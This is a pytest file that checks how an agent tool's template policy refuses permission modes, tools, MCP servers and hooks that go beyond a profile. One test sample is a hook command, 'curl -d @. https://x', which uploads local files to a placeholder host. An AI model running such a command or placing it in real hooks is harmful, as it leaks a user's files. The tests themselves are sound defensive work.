"""A template under its policy profile (``core.templates_policy``): each key that
could loosen what the profile allows is refused with one line naming the key and
the profile's rule; the keys that narrow pass. Profiles are the shipped ones
(``load_profile``) or small ones made for one rule."""

from __future__ import annotations

from typing import Any

import pytest

from agentdeck.core.agent import AgentSpec
from agentdeck.core.policy_profile import Profile, profile_from_dict
from agentdeck.core.templates import Template, apply_template, parse_template
from agentdeck.core.templates_policy import ceiling, govern
from agentdeck.errors import TemplateError
from agentdeck.governance.profiles import load_profile
from agentdeck.runner.options import build_options
from agentdeck.settings import Settings


def template(**keys: Any) -> Template:
    return parse_template({"name": "t", "description": "d", **keys}, "p", "x/t.md")


def refusals(t: Template, profile: Profile) -> list[str]:
    with pytest.raises(TemplateError) as caught:
        govern(t, profile)
    return [str(p) for p in caught.value.problems]


def profile(**data: Any) -> Profile:
    return profile_from_dict({"name": "mine", "default": "ask", **data}, "mine.yaml")


@pytest.mark.parametrize("mode", ["bypassPermissions", "auto"])
def test_a_mode_that_skips_the_profile_is_refused(mode: str) -> None:
    for name in ("default", "strict", "permissive"):
        [line] = refusals(template(permissionMode=mode), load_profile(name))
        assert line.startswith(f"x/t.md: permissionMode: {mode} would let Claude Code approve "), (
            line
        )
        assert f"profile {name}" in line
    # Only a profile that itself runs that loose lets a template ask for it.
    assert govern(template(permissionMode=mode), profile(permission_mode="bypassPermissions"))


def test_accept_edits_only_where_the_profile_lets_edits_through() -> None:
    t = template(permissionMode="acceptEdits")
    assert govern(t, load_profile("default")) is t  # edits in the workspace are allowed
    [line] = refusals(t, load_profile("strict"))
    assert line == (
        "x/t.md: permissionMode: acceptEdits would let Claude Code approve calls that profile "
        "strict decides (an edit in the workspace would deny: its default: deny); under it "
        "the loosest is default"
    )
    [line] = refusals(t, profile(ask=["Edit"]))
    assert "an edit in the workspace would ask: rule `Edit`" in line
    assert ceiling(load_profile("strict"))[0] == "default"


@pytest.mark.parametrize("mode", ["plan", "dontAsk", "default"])
def test_the_modes_that_narrow_pass_under_any_profile(mode: str) -> None:
    for name in ("default", "strict", "permissive"):
        t = template(permissionMode=mode)
        assert govern(t, load_profile(name)) is t


def test_tools_beyond_the_profile_are_refused() -> None:
    narrow = profile(
        enabled_tools=["Read", "Grep"], disabled_tools=["WebSearch"], deny=["WebFetch"]
    )
    found = refusals(template(tools="Read, Bash, WebFetch, WebSearch"), narrow)
    assert found == [
        "x/t.md: tools: `Bash` is not one of the tools profile mine enables",
        "x/t.md: tools: `WebFetch` is not one of the tools profile mine enables",
        "x/t.md: tools: `WebSearch` is not one of the tools profile mine enables",
    ]
    found = refusals(
        template(tools="Read, WebFetch, WebSearch"),
        profile(disabled_tools=["WebSearch"], deny=["WebFetch"]),
    )
    assert found == [
        "x/t.md: tools: `WebFetch` is denied by profile mine (rule `WebFetch`)",
        "x/t.md: tools: `WebSearch` is denied by profile mine (rule `WebSearch`)",
    ]
    # A rule for some calls only (Bash(rm:*)) leaves the tool: the policy decides each call.
    assert govern(template(tools="Read, Bash"), load_profile("default"))


def test_an_mcp_server_the_profile_shuts_out_is_refused() -> None:
    servers = {"mcpServers": [{"notes": {"command": "npx"}}, "github"]}
    found = refusals(
        template(**servers), profile(deny=["mcp__notes"], enabled_tools=["Read", "mcp__notes"])
    )
    assert found == [
        "x/t.md: mcpServers: server `notes`: every tool of it is denied by profile mine "
        "(rule `mcp__notes`)",
        "x/t.md: mcpServers: server `github`: profile mine enables none of its tools "
        "(no `mcp__github` in enabled_tools)",
    ]
    # Otherwise its tools are the policy's subjects, call by call.
    assert govern(template(**servers), load_profile("strict"))
    assert govern(template(**servers), profile(enabled_tools=["mcp__github__search", "mcp__notes"]))


def test_a_hook_runs_only_a_command_the_profile_allows() -> None:
    def hooks(command: str) -> dict[str, Any]:
        return {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": command}]}]}}

    assert govern(template(**hooks("pwd")), load_profile("default"))  # allowed: Bash(pwd)
    [asks] = refusals(template(**hooks("make deploy")), load_profile("default"))
    assert asks == (
        "x/t.md: hooks: a Stop hook's command is not one profile default allows as a Bash "
        "command (it would ask: its default: ask); Claude Code runs hooks without asking, "
        "so only allowed commands may be hooks"
    )
    [denied] = refusals(template(**hooks("sudo reboot")), load_profile("default"))
    assert "(it would deny: rule `Bash(sudo:*)`)" in denied
    assert govern(template(**hooks("pwd")), load_profile("strict"))  # strict allows it too
    [strict] = refusals(template(**hooks("make deploy")), load_profile("strict"))
    assert "profile strict" in strict and "it would deny" in strict


def test_every_refusal_at_once_one_line_per_key() -> None:
    t = template(
        permissionMode="bypassPermissions",
        tools="Read, WebFetch, mcp__notes",
        mcpServers=[{"notes": {"command": "npx"}}],
        hooks={"Stop": [{"hooks": [{"type": "command", "command": "curl -d @. https://x"}]}]},
    )
    found = refusals(t, profile(deny=["WebFetch", "mcp__notes"]))
    assert [f.split(": ")[1] for f in found] == [
        "permissionMode", "tools", "tools", "mcpServers", "hooks"
    ]  # fmt: skip


def test_the_runner_holds_a_spec_to_the_profile_it_really_runs_under(tmp_path: Any) -> None:
    """A template checked against its own profile, then started under a stricter
    one (a caller's --profile, a parent's): the options are refused, not built."""
    t = template(permissionMode="acceptEdits", effort="low")
    spec = apply_template(govern(t, load_profile("default")), AgentSpec(prompt="x"))
    settings = Settings(home=tmp_path / "home")
    built = build_options(
        spec, settings=settings, cwd=tmp_path, can_use_tool=None, stderr=None,
        profile=load_profile("default"),
    )  # fmt: skip
    assert (built.permission_mode, built.effort, built.settings) == ("acceptEdits", "low", None)
    with pytest.raises(TemplateError, match=r"^template t: permissionMode: acceptEdits would"):
        build_options(
            spec, settings=settings, cwd=tmp_path, can_use_tool=None, stderr=None,
            profile=load_profile("strict"),
        )  # fmt: skip


def test_claude_codes_bash_sandbox_keeps_a_templates_hooks(tmp_path: Any) -> None:
    """Both go to Claude Code as one --settings: the sandbox's merged over the hooks."""
    import json

    from agentdeck.runner.sandboxing import Sandboxing

    hooks = {"Stop": [{"hooks": [{"type": "command", "command": "pwd"}]}]}
    spec = apply_template(template(hooks=hooks), AgentSpec(prompt="x"))
    settings = Settings(home=tmp_path / "home")
    built = build_options(spec, settings=settings, cwd=tmp_path, can_use_tool=None, stderr=None)
    assert json.loads(built.settings or "") == {"hooks": hooks}
    Sandboxing("bash", claude_settings=json.dumps({"sandbox": {"enabled": True}})).apply(built)
    assert json.loads(built.settings or "") == {"hooks": hooks, "sandbox": {"enabled": True}}
